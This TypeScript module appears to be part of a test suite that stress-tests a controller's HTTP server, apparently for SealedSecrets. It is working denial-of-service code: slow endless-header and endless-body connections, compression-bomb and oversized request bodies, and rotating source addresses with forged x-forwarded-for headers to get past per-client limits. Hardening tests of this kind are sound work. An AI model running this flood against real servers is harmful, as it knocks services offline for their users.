// An attacker of the controller's HTTP server, from several addresses and through the API server.
import { type IncomingMessage, request as httpRequest } from "node:http";
import { request as httpsRequest } from "node:https";
import { connect, type Socket } from "node:net";
import { parseCertificate } from "../shared/keys/certificate.ts";
import { BOMB_BODIES, LARGE_BODY, manyValues } from "./hostile.ts";
import { repeatedly } from "./pace.ts";

export interface HttpTarget {
  /** `http://HOST:PORT` */
  readonly url: string;
  /** PEM certificate of a former key. */
  readonly formerCertificate: string;
  /** The controller behind the API server's proxy, and a token that may use it. */
  readonly proxy: { readonly url: string; readonly ca: string; readonly token: string };
}

type Count = (what: string) => void;

const ADDRESSES = ["127.0.0.2", "127.0.0.3", "127.0.0.4", "127.0.0.5"];
const ENDLESS = 100;
const IDLE = 600;
/** Maximum rate at which closed connections are reopened, per second. */
const OPENED_A_SECOND = 200;
const LARGE_A_SECOND = 20;
const BOMBS_A_SECOND = 20;
const VALUES_A_SECOND = 5;
const READS = ["/v1/keys", "/v1/cert.pem"];
const READS_A_SECOND = 200;
const MIB = 1024 * 1024;
/** Concurrent requests of each kind. */
const AT_ONCE = 12;
const PROXIED_A_SECOND = 10;
const ANSWER_TIMEOUT_MS = 60_000;

let turn = 0;
const nextAddress = (): string => ADDRESSES[turn++ % ADDRESSES.length] ?? "";
const inventedClient = (): string => `10.${turn % 250}.${(turn >> 3) % 250}.1`;
const nextRoute = (): string => (turn++ % 2 === 0 ? "/v1/verify" : "/v1/rotate");

/** Attacks until the process ends. Resolves when the attack is under way. */
export async function runHttpAttack(target: HttpTarget, count: Count): Promise<void> {
  const certificate = parseCertificate(target.formerCertificate);
  const values = JSON.stringify(await manyValues("hostile-0", "values", certificate));
  const list = JSON.stringify({
    ...{ apiVersion: "v1", kind: "List" },
    items: Array(500).fill(smallOf(values)),
  });
  const { url, proxy } = target;
  keepOpen(target, count);
  let round = 0;
  const bomb = (): string => BOMB_BODIES[round++ % BOMB_BODIES.length] ?? "";
  const costly = (): string => (round++ % 2 === 0 ? values : list);
  const any = [bomb, costly, () => LARGE_BODY];
  const options = { ca: proxy.ca, headers: { authorization: `Bearer ${proxy.token}` } };
  const shots: readonly (readonly [perSecond: number, make: () => Shot])[] = [
    [LARGE_A_SECOND, () => ({ kind: "large body", url: url + nextRoute(), body: LARGE_BODY })],
    [BOMBS_A_SECOND, () => ({ kind: "bomb", url: url + nextRoute(), body: bomb() })],
    [VALUES_A_SECOND, () => ({ kind: "former key", url: url + nextRoute(), body: costly() })],
    [READS_A_SECOND, () => ({ kind: "read", url: url + (READS[turn % READS.length] ?? "") })],
    [
      PROXIED_A_SECOND,
      () => {
        const body = any[round++ % any.length]?.() ?? "";
        return { kind: "by the API server", url: proxy.url + nextRoute(), body, options };
      },
    ],
  ];
  for (const [perSecond, make] of shots) {
    repeatedly(perSecond, AT_ONCE, () => send(make(), count));
  }
}

/** The same SealedSecret with only one of its values. */
function smallOf(text: string): object {
  const object = JSON.parse(text) as { spec: { encryptedData: Record<string, string> } };
  const [first = ["", ""]] = Object.entries(object.spec.encryptedData);
  return { ...object, spec: { ...object.spec, encryptedData: Object.fromEntries([first]) } };
}

/** Keeps open as many connections as it can: idle ones, endless headers and endless bodies. */
function keepOpen(target: HttpTarget, count: Count): void {
  const { hostname, port } = new URL(target.url);
  const open = new Map<string, Set<Socket>>();
  const kinds = {
    "endless body": ENDLESS,
    "idle connection": IDLE / 2,
    "endless header": IDLE / 2,
  };
  for (const [kind, wanted] of Object.entries(kinds)) {
    const sockets = new Set<Socket>();
    open.set(kind, sockets);
    repeatedly(OPENED_A_SECOND / 3, Infinity, () => {
      if (sockets.size >= wanted) return;
      const socket = connect({ host: hostname, port: Number(port), localAddress: nextAddress() });
      sockets.add(socket);
      socket.on("error", () => undefined).on("close", () => sockets.delete(socket));
      socket.resume();
      count(kind);
      const head = `POST ${nextRoute()} HTTP/1.1\r\nhost: a\r\nx-forwarded-for: ${inventedClient()}\r\n`;
      const body = `content-length: ${LARGE_BODY.length}\r\n\r\n${LARGE_BODY.slice(MIB)}`;
      if (kind === "endless body") socket.write(head + body);
      if (kind === "endless header") socket.write(`${head}x: `);
    });
  }
  repeatedly(1, 1, () => {
    for (const [kind, sockets] of open) {
      if (kind !== "idle connection") for (const socket of sockets) socket.write("x");
    }
  });
}

interface Shot {
  readonly kind: string;
  readonly url: string;
  readonly body?: string;
  /** Additional options of the request. */
  readonly options?: {
    readonly ca: string;
    readonly headers: Readonly<Record<string, string>>;
  };
}

/** Sends one request, and counts it and its answer. */
function send({ kind, url, body, options }: Shot, count: Count): Promise<void> {
  count(kind);
  const begin = url.startsWith("https:") ? httpsRequest : httpRequest;
  const all = {
    ...{ method: body === undefined ? "GET" : "POST", localAddress: nextAddress(), agent: false },
    timeout: ANSWER_TIMEOUT_MS,
    ...options,
    headers: { "x-forwarded-for": inventedClient(), ...options?.headers },
  };
  return new Promise((done) => {
    const asked = begin(url, all, (response: IncomingMessage) => {
      count(`${kind}: ${response.statusCode ?? 0}`);
      response.on("error", () => undefined);
      response.resume();
    });
    asked.on("timeout", () => asked.destroy());
    // An attacker must expect its connections to be closed.
    asked.on("error", () => undefined).on("close", done);
    asked.end(body);
  });
}
